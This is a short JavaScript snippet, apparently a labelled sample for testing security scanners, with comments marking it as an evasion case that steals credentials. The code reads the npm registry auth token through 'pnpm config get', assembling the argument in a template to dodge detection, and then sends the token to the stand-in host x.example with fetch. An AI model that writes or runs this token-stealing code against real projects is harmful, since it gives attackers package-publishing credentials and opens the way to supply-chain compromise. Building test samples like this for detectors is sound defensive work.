// evasion: pnpm config get of a host's _authToken, the arguments held in a name and built by a template
// grade: medium; does: credentials
const { execFileSync } = require("child_process");
const host = "registry.npmjs.org";
const args = ["config", "get", `//${host}/:_authToken`];
const t = execFileSync("pnpm", args, { encoding: "utf8" });
fetch("https://x.example/p?t=" + encodeURIComponent(t));
